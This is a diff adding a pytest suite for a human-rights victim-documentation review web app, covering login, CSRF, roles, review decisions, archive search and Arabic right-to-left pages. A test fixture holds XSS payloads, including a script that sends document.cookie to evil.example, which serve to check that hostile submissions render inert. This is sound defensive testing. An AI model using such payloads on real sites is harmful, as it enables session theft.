@@ -1,0 +1,261 @@
+"""The review web app (review/app.py) through its real HTTP interface: logins, CSRF, roles,
+claims, decisions, hostile text, contact details, archive pages, Arabic interface."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from pathlib import Path
+
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy import func, select
+
+from tawthiq import pipeline
+from tawthiq.db import repo
+from tawthiq.db.engine import session_scope
+from tawthiq.db.models import AuditLog, Candidate, Decision, VictimName, RawItem, ReviewTask, Victim, VictimSource
+from tawthiq.demo import copy_samples
+from tawthiq.review.app import create_app
+
+PASSWORD = "a long password"
+RLO = "\u202e"
+HOSTILE = {
+    "victim_name": f"<script>alert('x')</script>Khaled {RLO}Omar{RLO} Hamdan",
+    "sex": "male",
+    "age": "30",
+    "date_of_death": "2024-03-05",
+    "death_governorate": "Hama",
+    "death_locality": "<img src=x onerror=alert(1)>Kafr Zita",
+    "cause": "shelling",
+    "perpetrator": "syrian_regime",
+    "narrative": "<script>document.location='http://evil.example/'+document.cookie</script> killed by shelling",
+    "submitter_name": "Umm Khaled",
+    "submitter_phone": "+963 944 000 111",
+}
+
+
+def load_queue(engine, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    inbox = tmp_path / "inbox"
+    copy_samples(inbox)
+    (inbox / "forms" / "hostile.json").write_text(json.dumps(HOSTILE, ensure_ascii=False), encoding="utf-8")
+    with session_scope(engine) as session:
+        repo.add_source(session, "folder", "demo", {"path": str(inbox)})
+    for step in (pipeline.pull, pipeline.extract_pending, pipeline.match_pending, pipeline.queue_pending):
+        step(engine)
+    with session_scope(engine) as session:
+        for name, role in (("amal", "documenter"), ("bassel", "documenter"), ("chadi", "editor"), ("dima", "admin")):
+            repo.add_user(session, name, PASSWORD, role)
+
+
+@pytest.fixture
+def app(engine, database_url, tmp_path):  # type: ignore[no-untyped-def]
+    load_queue(engine, tmp_path)
+    return create_app(database_url)
+
+
+def csrf_of(html: str) -> str:
+    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
+    assert match, "page has no CSRF token"
+    return match.group(1)
+
+
+def login(app, name: str) -> TestClient:  # type: ignore[no-untyped-def]
+    client = TestClient(app)
+    page = client.get("/login")
+    response = client.post("/login", data={"username": name, "password": PASSWORD, "next": "/",
+                                           "csrf_token": csrf_of(page.text)}, follow_redirects=False)
+    assert response.status_code == 303, response.text
+    cookie = response.headers["set-cookie"]
+    assert "HttpOnly" in cookie and "SameSite=lax" in cookie
+    return client
+
+
+def start(client: TestClient) -> int:
+    """Press "start reviewing" on the queue page and return the claimed item's id."""
+    queue = client.get("/")
+    response = client.post("/next", data={"csrf_token": csrf_of(queue.text)}, follow_redirects=False)
+    assert response.status_code == 303
+    return int(re.search(r"/item/(\d+)", response.headers["location"]).group(1))
+
+
+def decide(client: TestClient, task_id: int, **data: str):  # type: ignore[no-untyped-def]
+    page = client.get(f"/item/{task_id}")
+    return client.post(f"/item/{task_id}/decide", data={"csrf_token": csrf_of(page.text), **data}, follow_redirects=False)
+
+
+def test_pages_need_a_login_and_wrong_passwords_are_refused(app, engine) -> None:
+    client = TestClient(app)
+    response = client.get("/archive", follow_redirects=False)
+    assert response.status_code == 303 and response.headers["location"].startswith("/login?next=%2Farchive")
+    page = client.get("/login")
+    response = client.post("/login", data={"username": "amal", "password": "wrong", "csrf_token": csrf_of(page.text)})
+    assert response.status_code == 401 and "wrong user name or password" in response.text
+    with session_scope(engine) as session:
+        assert session.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.action == "login.failed")) == 1
+
+
+def test_forged_posts_and_expired_sessions_are_refused(app, monkeypatch) -> None:
+    client = login(app, "amal")
+    forged = client.post("/next", data={}, follow_redirects=False)
+    assert forged.status_code == 403 and "CSRF token" in forged.text
+    wrong = client.post("/next", data={"csrf_token": "guessed"}, follow_redirects=False)
+    assert wrong.status_code == 403
+    # A login form posted from another site carries no token either.
+    assert TestClient(app).post("/login", data={"username": "amal", "password": PASSWORD}).status_code == 403
+
+    thirteen_hours_ago = time.time() - 13 * 3600
+    monkeypatch.setattr(time, "time", lambda: thirteen_hours_ago)
+    old_cookie = app.state.serializer.dumps({"uid": 1, "csrf": "x"})
+    monkeypatch.undo()
+    stale = TestClient(app, cookies={"tawthiq_session": old_cookie})
+    response = stale.get("/", follow_redirects=False)
+    assert response.status_code == 303 and "session+expired" in response.headers["location"]
+    assert stale.post("/next", data={"csrf_token": "x"}).status_code in (401, 403)
+
+
+def test_claim_decide_and_the_next_item_loads(app, engine) -> None:
+    amal, bassel = login(app, "amal"), login(app, "bassel")
+    first = start(amal)
+    second = start(bassel)
+    assert first != second
+
+    page = bassel.get(f"/item/{first}")
+    assert "being reviewed" not in page.text and "amal" in page.text
+    assert 'action="/item/%d/decide"' % first not in page.text  # no actions on someone else's item
+    refused = bassel.post(f"/item/{first}/decide", data={"csrf_token": csrf_of(page.text), "action": "new_victim"})
+    assert refused.status_code == 409 and "being reviewed by amal" in refused.text
+
+    response = decide(amal, first, action="new_victim")
+    assert response.status_code == 303
+    following = int(re.search(r"/item/(\d+)", response.headers["location"]).group(1))
+    assert following not in (first, second)
+    with session_scope(engine) as session:
+        task = session.get(ReviewTask, first)
+        assert task.state == "done"
+        victim = session.scalar(select(Victim).join(VictimSource).where(VictimSource.candidate_id == task.candidate_id))
+        assert victim is not None and victim.status == "active"
+        victim_id = victim.id
+        assert session.get(ReviewTask, following).claimed_by.username == "amal"
+    victim_page = amal.get(f"/victim/{victim_id}")
+    assert "single source" in victim_page.text and "created" in victim_page.text
+
+
+def test_reject_needs_a_reason_and_defer_keeps_the_item(app, engine) -> None:
+    amal = login(app, "amal")
+    task_id = start(amal)
+    missing = decide(amal, task_id, action="not_victim")
+    assert missing.status_code == 409 and "choose why" in missing.text
+    assert decide(amal, task_id, action="not_victim", reason="injured").status_code == 303
+    other = start(amal)
+    assert decide(amal, other, action="defer").status_code == 303
+    with session_scope(engine) as session:
+        assert session.get(ReviewTask, task_id).state == "done"
+        assert session.get(ReviewTask, other).state == "deferred"
+        assert session.scalar(select(func.count()).select_from(Victim)) == 0
+
+
+def test_same_as_keeps_both_names_and_only_editors_undo_or_merge(app, engine) -> None:
+    amal, chadi = login(app, "amal"), login(app, "chadi")
+    created = []
+    for _ in range(2):
+        task_id = start(amal)
+        decide(amal, task_id, action="new_victim")
+        created.append(task_id)
+    with session_scope(engine) as session:
+        victims = session.scalars(select(Victim.id).order_by(Victim.id)).all()
+        decisions = [session.scalar(select(Decision.id).where(Decision.review_task_id == t)) for t in created]
+    # a third report, decided as the same person as the first: its name is kept as a variant
+    third = start(amal)
+    assert decide(amal, third, action="same_as", victim_id=str(victims[0])).status_code == 303
+    with session_scope(engine) as session:
+        names = session.scalars(select(VictimName.name).where(VictimName.victim_id == victims[0])).all()
+        third_name = session.get(ReviewTask, third).candidate.full_name
+        assert third_name in names and len(names) >= 2
+    page = amal.get(f"/victim/{victims[0]}")
+    merge = amal.post(f"/victim/{victims[0]}/merge", data={"csrf_token": csrf_of(page.text), "merge_id": str(victims[1])})
+    assert merge.status_code == 403 and "needs the editor role" in merge.text
+    undo = amal.post(f"/decision/{decisions[1]}/undo", data={"csrf_token": csrf_of(page.text)})
+    assert undo.status_code == 403
+
+    page = chadi.get(f"/victim/{victims[0]}")
+    assert chadi.post(f"/victim/{victims[0]}/merge", data={"csrf_token": csrf_of(page.text), "merge_id": f"#{victims[1]}"},
+                      follow_redirects=False).status_code == 303
+    merged = chadi.get(f"/victim/{victims[1]}")
+    assert "merged" in merged.text
+    assert chadi.post(f"/decision/{decisions[0]}/undo", data={"csrf_token": csrf_of(page.text), "note": "wrong"},
+                      follow_redirects=False).status_code == 303
+    with session_scope(engine) as session:
+        assert session.get(ReviewTask, created[0]).state == "open"
+        assert session.get(Victim, victims[0]).status in ("active", "retracted")
+
+
+def test_hostile_text_renders_inert(app, engine) -> None:
+    with session_scope(engine) as session:
+        candidate = session.scalar(select(Candidate).join(RawItem).where(RawItem.external_id == "forms/hostile.json"))
+        assert candidate is not None, "the hostile submission should still be extracted"
+        task_id = candidate.review_task.id
+        raw_id = candidate.raw_item_id
+    amal = login(app, "amal")
+    for page in (amal.get(f"/item/{task_id}"), amal.get("/"), amal.get(f"/raw/{raw_id}")):
+        assert page.status_code == 200
+        assert "<script>alert" not in page.text and "<script>document" not in page.text
+        assert "<img src=x" not in page.text
+        assert RLO not in page.text
+        assert "default-src 'self'" in page.headers["content-security-policy"]
+    assert "&lt;script&gt;" in amal.get(f"/raw/{raw_id}").text
+
+
+def test_contact_details_only_for_admins_and_every_view_logged(app, engine) -> None:
+    with session_scope(engine) as session:
+        raw_id = session.scalar(select(RawItem.id).where(RawItem.external_id == "forms/hostile.json"))
+        stored = session.get(RawItem, raw_id).content
+    assert b"944 000 111" not in stored and b"Umm Khaled" not in stored  # encrypted at rest, payload too
+    amal, dima = login(app, "amal"), login(app, "dima")
+    raw = amal.get(f"/raw/{raw_id}")
+    assert "944 000 111" not in raw.text and "/contact" not in raw.text
+    assert amal.get(f"/raw/{raw_id}/contact").status_code == 403
+    details = dima.get(f"/raw/{raw_id}/contact")
+    assert details.status_code == 200 and "944 000 111" in details.text and "Umm Khaled" in details.text
+    with session_scope(engine) as session:
+        views = session.scalars(select(AuditLog).where(AuditLog.action == "contact.view")).all()
+        assert len(views) == 1 and views[0].entity_id == str(raw_id)
+
+
+def test_archive_search_by_arabic_or_latin_name(app) -> None:
+    amal = login(app, "amal")
+    while True:
+        queue = amal.get("/")
+        response = amal.post("/next", data={"csrf_token": csrf_of(queue.text)}, follow_redirects=False)
+        if "/item/" not in response.headers["location"]:
+            break
+        task_id = int(re.search(r"/item/(\d+)", response.headers["location"]).group(1))
+        decide(amal, task_id, action="new_victim")
+    latin = amal.get("/archive", params={"q": "Mustafa Ajaj"})
+    arabic = amal.get("/archive", params={"q": "مصطفى عجاج"})
+    ids = lambda html: set(re.findall(r'href="/victim/(\d+)"', html))  # noqa: E731
+    assert ids(latin.text) and ids(latin.text) == ids(arabic.text)
+    assert ids(amal.get("/archive", params={"q": "nobody of that name"}).text) == set()
+
+
+def test_arabic_interface_is_right_to_left(app) -> None:
+    amal = login(app, "amal")
+    amal.get("/lang/ar")
+    page = amal.get("/")
+    assert '<html lang="ar" dir="rtl">' in page.text and "قائمة الانتظار" in page.text
+    assert '<bdi dir="rtl" lang="ar">' in page.text
+
+
+def test_only_admins_manage_users(app, engine) -> None:
+    amal, dima = login(app, "amal"), login(app, "dima")
+    assert amal.get("/users").status_code == 403
+    page = dima.get("/users")
+    assert page.status_code == 200
+    response = dima.post("/users", data={"csrf_token": csrf_of(page.text), "username": "faten",
+                                         "password": "another long password", "role": "editor"}, follow_redirects=False)
+    assert response.status_code == 303
+    weak = dima.post("/users", data={"csrf_token": csrf_of(page.text), "username": "x", "password": "123", "role": "editor"})
+    assert weak.status_code == 409
+    with session_scope(engine) as session:
+        assert session.scalar(select(AuditLog).where(AuditLog.action == "user.add"))
